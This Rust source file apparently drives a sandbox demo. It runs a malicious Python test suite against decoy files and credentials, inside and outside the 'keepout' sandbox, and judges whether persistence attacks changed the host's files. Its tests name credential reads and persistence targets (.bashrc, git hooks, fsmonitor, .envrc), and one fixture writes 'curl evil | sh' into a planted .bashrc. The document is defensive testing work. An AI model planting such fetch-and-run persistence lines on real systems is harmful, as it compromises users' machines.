//! One run of the malicious suite: plant, start the decoys, run `python3 evil.py` (as the user,
//! or inside `keepout run`), stop the decoys, and read the suite's JSON report, with the
//! persistence attacks judged by whether the host's files changed.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde::Deserialize;

use crate::{decoys, plant, DemoError, Side};

/// Where, in the run's directory, `keepout run --report` writes its report.
pub(crate) const KEEPOUT_REPORT: &str = "keepout-report.json";

/// What an attack got, as the suite says it ("got", "blocked", "skipped", "info", ...).
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(from = "String")]
pub enum Outcome {
    /// The attack got what it wanted.
    Got,
    Blocked,
    /// Anything else the suite says (it does not apply here, or only informs), verbatim.
    Other(String),
}

impl From<String> for Outcome {
    fn from(s: String) -> Outcome {
        match s.as_str() {
            "got" => Outcome::Got,
            "blocked" => Outcome::Blocked,
            _ => Outcome::Other(s),
        }
    }
}

impl Outcome {
    /// The suite's word for it.
    pub fn as_str(&self) -> &str {
        match self {
            Outcome::Got => "got",
            Outcome::Blocked => "blocked",
            Outcome::Other(s) => s,
        }
    }
}

/// One attack of one run.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct Attempt {
    /// The threat model's class, e.g. "A1".
    pub id: String,
    /// What it tried, e.g. "read ~/.netrc".
    pub attack: String,
    pub outcome: Outcome,
    /// What it got, or why it failed.
    #[serde(default)]
    pub detail: String,
}

/// Run the suite once in `root` (created), on `side`, and return its attempts.
pub(crate) fn run(root: &Path, side: Side<'_>) -> Result<Vec<Attempt>, DemoError> {
    std::fs::create_dir_all(root)?;
    let plant::Planted { home, project } = plant::plant(root)?;
    let decoys = decoys::start(&home, side.name())?;
    let mut suite_args: Vec<String> = vec![
        "python3".into(),
        "evil.py".into(),
        "--json".into(),
        "--victim-home".into(),
        home.display().to_string(),
        "--project".into(),
        project.display().to_string(),
        "--agent-sock".into(),
        decoys.agent_sock.display().to_string(),
        "--host-pid".into(),
        decoys.sleep.id().to_string(),
        "--host-port".into(),
        decoys.port.to_string(),
        "--abstract-sock".into(),
        decoys.abstract_name.clone(),
        "--json-out".into(),
        "report.json".into(),
    ];
    if let Side::Inside(keepout) = side {
        let report = root.join(KEEPOUT_REPORT).display().to_string();
        suite_args.splice(
            0..0,
            [
                keepout.program.display().to_string(),
                "run".into(),
                "--report".into(),
                report,
                "--".into(),
            ],
        );
    }
    // With `script` (util-linux) the suite gets a terminal of its own, so terminal injection
    // (A5) is tried for real, on that throwaway terminal and never on the user's.
    let mut cmd = if on_path("script") {
        let line = suite_args
            .iter()
            .map(|a| shell_quote(a))
            .collect::<Vec<_>>()
            .join(" ");
        let mut c = Command::new("script");
        c.args(["-qec", &line, "/dev/null"]);
        c
    } else {
        let mut c = Command::new(suite_args.remove(0));
        c.args(&suite_args);
        c
    };
    cmd.current_dir(&project)
        .env("HOME", &home)
        .env("GITHUB_TOKEN", "ghp_FAKEdemo0000000000000000000000000000")
        .env("PYPI_TOKEN", "pypi-AgEIcHlwaS5vcmcFAKEDEMO")
        .env("SSH_AUTH_SOCK", &decoys.agent_sock)
        .env("KEEPOUT_DEMO_ABSTRACT", &decoys.abstract_name)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::inherit());
    let status = cmd.status().map_err(DemoError::Python)?;
    drop(decoys);
    let text = match std::fs::read_to_string(project.join("report.json")) {
        Ok(text) => text,
        Err(_) if matches!(side, Side::Inside(k) if status.code() == Some(k.error_status)) => {
            return Err(DemoError::SandboxDidNotStart)
        }
        Err(reading) => {
            return Err(DemoError::NoReport {
                status: status.code(),
                reading,
            })
        }
    };
    let mut attempts: Vec<Attempt> =
        serde_json::from_str(&text).map_err(DemoError::ReportNotJson)?;
    judge_persistence(&mut attempts, &home, &project);
    Ok(attempts)
}

/// The suite cannot tell a write to the real home from a write to the sandbox's throwaway home
/// at the same path; what counts is whether the host's file changed. Look, and say so: an A4
/// attempt that "got" but left the host's file as planted becomes "blocked".
pub(crate) fn judge_persistence(attempts: &mut [Attempt], home: &Path, project: &Path) {
    let changed = |p: PathBuf, original: &str| {
        std::fs::read_to_string(p)
            .map(|c| c != original)
            .unwrap_or(false)
    };
    let exists = |p: PathBuf| std::fs::symlink_metadata(p).is_ok();
    for a in attempts.iter_mut().filter(|a| a.id == "A4") {
        let on_host = match a.attack.as_str() {
            "append ~/.bashrc" => changed(home.join(".bashrc"), plant::planted_content(".bashrc")),
            "append ~/.profile" => {
                changed(home.join(".profile"), plant::planted_content(".profile"))
            }
            "create ~/.config/autostart/evil.desktop" => {
                exists(home.join(".config/autostart/evil.desktop"))
            }
            "write .git/hooks/pre-commit" => exists(project.join(".git/hooks/pre-commit")),
            "append fsmonitor to .git/config" => {
                std::fs::read_to_string(project.join(".git/config"))
                    .map(|c| c.contains("fsmonitor"))
                    .unwrap_or(false)
            }
            "create/append .envrc" => exists(project.join(".envrc")),
            _ => continue,
        };
        if a.outcome == Outcome::Got && !on_host {
            a.outcome = Outcome::Blocked;
            a.detail = "the host's file is unchanged (the write, if any, went to the sandbox's throwaway copy)".into();
        }
    }
}

/// The system calls a `keepout run --report` report at `path` lists as refused; none when it
/// cannot be read or is not JSON.
pub(crate) fn refused_syscalls(path: &Path) -> Vec<String> {
    let Ok(text) = std::fs::read_to_string(path) else {
        return Vec::new();
    };
    let Ok(json) = serde_json::from_str::<serde_json::Value>(&text) else {
        return Vec::new();
    };
    json["syscalls"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str())
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default()
}

/// Whether `program` is a file in a directory of `PATH`.
fn on_path(program: &str) -> bool {
    std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).any(|d| d.join(program).is_file()))
        .unwrap_or(false)
}

/// `s` as one word for `sh -c`.
fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::{judge_persistence, refused_syscalls, shell_quote, Attempt, Outcome};
    use crate::plant::plant;

    fn attempt(id: &str, attack: &str, outcome: &str) -> Attempt {
        Attempt {
            id: id.into(),
            attack: attack.into(),
            outcome: Outcome::from(outcome.to_string()),
            detail: "wrote it".into(),
        }
    }

    #[test]
    fn the_suites_report_parses_with_every_outcome() {
        let text = r#"[{"id": "A1", "attack": "read ~/.netrc", "outcome": "got", "detail": "x"},
            {"id": "A7", "attack": "sudo -n true", "outcome": "skipped"},
            {"id": "A11", "attack": "fill /tmp", "outcome": "info", "detail": ""},
            {"id": "A2", "attack": "scan", "outcome": "blocked", "detail": ""}]"#;
        let got: Vec<Attempt> = serde_json::from_str(text).unwrap();
        let outcomes: Vec<&str> = got.iter().map(|a| a.outcome.as_str()).collect();
        assert_eq!(outcomes, ["got", "skipped", "info", "blocked"]);
        assert_eq!(got[0].outcome, Outcome::Got);
        assert_eq!(got[1].detail, "");
        assert_eq!(got[3].outcome, Outcome::Blocked);
    }

    #[test]
    fn persistence_counts_only_when_the_hosts_file_changed() {
        let dir = tempfile::tempdir().unwrap();
        let planted = plant(dir.path()).unwrap();
        // .bashrc changed on the host; .profile did not; .envrc was created; no hook.
        std::fs::write(
            planted.home.join(".bashrc"),
            "# alice's bashrc\ncurl evil | sh\n",
        )
        .unwrap();
        std::fs::write(planted.project.join(".envrc"), "evil\n").unwrap();
        let mut attempts = vec![
            attempt("A4", "append ~/.bashrc", "got"),
            attempt("A4", "append ~/.profile", "got"),
            attempt("A4", "create/append .envrc", "got"),
            attempt("A4", "write .git/hooks/pre-commit", "got"),
            attempt("A4", "append fsmonitor to .git/config", "blocked"),
            attempt("A4", "something new", "got"),
            attempt("A1", "append ~/.profile", "got"),
        ];
        judge_persistence(&mut attempts, &planted.home, &planted.project);
        let outcomes: Vec<&str> = attempts.iter().map(|a| a.outcome.as_str()).collect();
        assert_eq!(
            outcomes,
            ["got", "blocked", "got", "blocked", "blocked", "got", "got"]
        );
        assert!(attempts[1]
            .detail
            .starts_with("the host's file is unchanged"));
        assert_eq!(attempts[0].detail, "wrote it");
        assert_eq!(
            attempts[4].detail, "wrote it",
            "a blocked one is left as it is"
        );
    }

    #[test]
    fn the_refused_system_calls_are_read_from_keepouts_report() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("report.json");
        assert!(refused_syscalls(&path).is_empty(), "no report");
        std::fs::write(&path, "not json").unwrap();
        assert!(refused_syscalls(&path).is_empty());
        std::fs::write(&path, r#"{"syscalls": ["bpf", 3, "mount"], "other": 1}"#).unwrap();
        assert_eq!(refused_syscalls(&path), ["bpf", "mount"]);
    }

    #[test]
    fn a_word_is_quoted_for_the_shell() {
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("a b"), "'a b'");
    }
}
